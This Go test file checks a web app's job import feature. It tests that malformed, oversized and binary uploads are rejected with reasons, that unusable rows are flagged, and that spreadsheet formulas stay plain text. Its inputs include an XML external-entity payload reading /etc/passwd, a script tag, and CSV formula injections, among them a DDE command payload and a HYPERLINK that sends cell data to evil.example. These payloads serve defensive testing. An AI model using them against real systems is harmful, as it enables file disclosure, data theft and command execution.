package web_test

import (
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"
)

// utf16le is a text as Windows programs save it, with its mark.
func utf16le(s string) string {
	var b strings.Builder
	for _, unit := range append([]uint16{0xfeff}, utf16.Encode([]rune(s))...) {
		b.Write([]byte{byte(unit), byte(unit >> 8)})
	}
	return b.String()
}

func TestImportsThatCannotBeReadSayWhyKeepTheTextAndStoreNothing(t *testing.T) {
	t.Parallel()
	g := newTarget(t)
	form := g.Get("/jobs/import")
	texts := map[string]string{
		"broken JSON": `{"projects": [{"title": "x"`, "JSON with a comma too much": `{"projects": [{"title": "x"},]}`, "two JSON values": `[] []`, "deep lists": strings.Repeat("[", 50_000), "deep objects": strings.Repeat(`{"a":`, 50_000),
		"deep and closed": strings.Repeat("[", 5000) + strings.Repeat("]", 5000), "a JSON number": "12", "JSON null": "null", "an empty list": "[]", "a huge number alone": strings.Repeat("9", 10_000),
		"broken CSV": "title,url\n\"x,y\nz", "CSV with a stray quote": "title,url\na\"b,c\"d\"e\n", "only a header": "title,url\n", "no known column": "a,b\n1,2\n", "10,000 columns": "x" + strings.Repeat(",x", 10_000) + "\n",
		"6,000 rows": "title,url\n" + strings.Repeat("A,https://www.upwork.com/jobs/~022050861570460031848\n", 6000),
		"XML":        "<?xml version='1.0'?><jobs><job/></jobs>", "entities": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'><!ENTITY c '&b;&b;'>]><a>&c;</a>",
		"RSS": "<rss version='2.0'><channel><item><title>=1+1</title></item>", "HTML": "<table><tr><td>title", "blank": " \n\t\n ", "a mark only": "\ufeff", "quotes only": `"""`, "separators only": ",,,\n,,,\n",
	}
	g.unstored(t, func() {
		for what, text := range texts {
			p := g.Submit(form, `form[action="/jobs/import"]`, url.Values{"text": {text}})
			judge(t, what, p, 422)
			message := p.Find("#problem-text").Text()
			if p.Status != http.StatusUnprocessableEntity || len(message) < 15 {
				t.Errorf("%s: %d, message %q", what, p.Status, message)
			}
			if strings.TrimSpace(p.Find("#text").Text()) != strings.TrimSpace(text) {
				t.Errorf("%s: the text is lost", what)
			}
		}
		texts["NUL"], texts["invalid UTF-8"], texts["UTF-16"], texts["a picture"] = "title,url\na\x00b,c\n", "title,url\na\xff\xfe,c\n", utf16le("title,url\nx,y\n"), "\x89PNG\r\n\x1a\n\x00\x00"
		texts["a spreadsheet"], texts["gzip"] = "PK\x03\x04\x14\x00\x06\x00", "\x1f\x8b\x08\x00\x00"
		delete(texts, "blank") // a browser sends an empty file when none was chosen
		for what, text := range texts {
			p := upload(t, g.Site, g.Browser, g.tenant, "jobs.csv", text)
			judge(t, "a file: "+what, p, 422)
			if message := p.Find("#problem-file, #problem-text").Text(); p.Status != http.StatusUnprocessableEntity || len(message) < 15 {
				t.Errorf("a file: %s: %d, message %q", what, p.Status, message)
			}
		}
	})
}

func TestRowsThatCannotBeUsedAreNamedAndTheOthersImported(t *testing.T) {
	t.Parallel()
	g := newTarget(t)
	form := g.Get("/jobs/import")
	var rows []string
	for i, cells := range []string{
		`One that is right,,$45`, `,,$5`, strings.Repeat("long ", 200) + `,,`, `"Huge pay",,$99999999999999999999`, `Infinite,,1e999`, `"Odd` + "\u202e\u0007" + `",,NaN`, `"Script <script>alert(1)</script>",,-5`, `Many,cells,a,b,c,d`,
	} {
		first, rest, _ := strings.Cut(cells, ",,")
		rows = append(rows, first+fmt.Sprintf(",https://www.upwork.com/jobs/~0220508615704600318%02d,", i)+rest)
	}
	preview := g.Get(g.Submit(form, `form[action="/jobs/import"]`, url.Values{"text": {"title,url,payment_rate\n" + strings.Join(rows, "\n")}}).Header.Get("Location"))
	if preview.Status != http.StatusOK || preview.Find("tbody tr").Length() != len(rows) {
		t.Fatalf("%d with %d rows", preview.Status, preview.Find("tbody tr").Length())
	}
	failed := preview.Find("tbody tr").FilterFunction(func(_ int, s *selection) bool { return strings.Contains(s.Text(), "Not usable") })
	for _, row := range failed.EachIter() {
		if len(strings.TrimSpace(row.Find("td").Last().Text())) < 15 {
			t.Errorf("a row is refused without a reason: %s", row.Text())
		}
	}
	done := g.Get(g.Submit(preview, `form[action^="/jobs/import/"]`, nil).Header.Get("Location"))
	if failed.Length() == 0 || !strings.Contains(done.Message(), fmt.Sprintf("%d not usable", failed.Length())) {
		t.Errorf("%d rows failed, and it says %q", failed.Length(), done.Message())
	}
}

func TestFormulasInImportedTextStayText(t *testing.T) {
	t.Parallel()
	g := newTarget(t)
	formulas := []string{`=HYPERLINK("https://evil.example/?"&A1,"Click")`, `+1+1`, `-2+3`, `@SUM(A1:A9)`, `=cmd|'/c calc'!A0`, "\t=1+1"}
	csv := "title,url,description,client_city\n"
	for i, f := range formulas {
		cell := `"` + strings.ReplaceAll(f, `"`, `""`) + `"`
		csv += fmt.Sprintf("%s,https://www.upwork.com/jobs/~0220508615704600319%02d,%s,%s\n", cell, i, cell, cell)
	}
	preview := g.Get(g.Submit(g.Get("/jobs/import"), `form[action="/jobs/import"]`, url.Values{"text": {csv}}).Header.Get("Location"))
	g.Submit(preview, `form[action^="/jobs/import/"]`, nil)
	jobs := g.Get("/jobs")
	titles := jobs.Find(".row h2 a").Map(func(_ int, s *selection) string { return s.Text() })
	for _, f := range formulas {
		f = strings.TrimSpace(f)
		at := -1
		for i, title := range titles {
			if title == f {
				at = i
			}
		}
		if at < 0 {
			t.Errorf("%q is not in the list: %q", f, titles)
			continue
		}
		job := g.Get(jobs.Find(".row h2 a").Eq(at).AttrOr("href", ""))
		if job.H1() != f || !strings.Contains(job.Find("main .text").Text(), f) || job.Find(`a[href*="evil"]`).Length() != 0 {
			t.Errorf("%q became %q", f, job.H1())
		}
	}
}
